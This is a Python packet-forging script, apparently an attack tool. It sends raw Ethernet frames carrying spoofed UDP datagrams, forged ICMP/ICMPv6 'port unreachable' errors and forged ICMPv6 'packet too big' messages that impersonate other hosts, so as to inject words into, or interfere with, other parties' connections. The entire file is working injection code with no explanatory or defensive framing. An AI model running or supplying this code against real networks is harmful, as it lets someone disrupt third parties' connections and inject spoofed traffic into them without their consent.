#!/usr/bin/env python3
"""Says words within connections of others.

    forge.py INTERFACE MAC WORDS…

sends frames to the MAC, one for each of the WORDS:

    udp,SOURCE,PORT,TARGET,PORT,WORD          a datagram
    error,FROM,SOURCE,PORT,TARGET,PORT        that the datagram from SOURCE to TARGET found no port
    big,FROM,SOURCE,ID,TARGET,NUMBER          that an echo of IPv6 was too big for a link of 1280 bytes
"""
import socket
import struct
import sys
import time

from attack import ethernet, icmp, icmp6, ipv4, ipv6, udp


def opened(interface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    return s, ":".join("%02x" % byte for byte in s.getsockname()[4])


def packet(source, target, protocol, body):
    if ":" in source:
        return 0x86DD, ipv6(source, target, protocol, body, 64)
    return 0x800, ipv4(source, target, protocol, body)


def datagram(source, sport, target, dport, word):
    return packet(source, target, 17, udp(source, target, int(sport), int(dport), word.encode()))


def error(sender, source, sport, target, dport):
    quoted = datagram(source, sport, target, dport, "?")[1]
    if ":" in source:
        return packet(sender, source, 58, icmp6(sender, source, 1, 4, bytes(4) + quoted))
    return packet(sender, source, 1, icmp(3, 3, bytes(4) + quoted))


def too_big(sender, source, ident, target, number):
    echo = icmp6(source, target, 128, 0, struct.pack("!HH", int(ident), int(number)) + bytes(1200))
    quoted = ipv6(source, target, 58, echo)[:1200]
    return packet(sender, source, 58, icmp6(sender, source, 2, 0, struct.pack("!I", 1280) + quoted))


MAKERS = {
    "udp": datagram,
    "error": error,
    "big": too_big,
}

out, own = opened(sys.argv[1])
for words in sys.argv[3:]:
    kind, *fields = words.split(",")
    protocol, body = MAKERS[kind](*fields)
    out.send(ethernet(sys.argv[2], own, protocol, body).ljust(60, b"\0"))
    time.sleep(0.003)
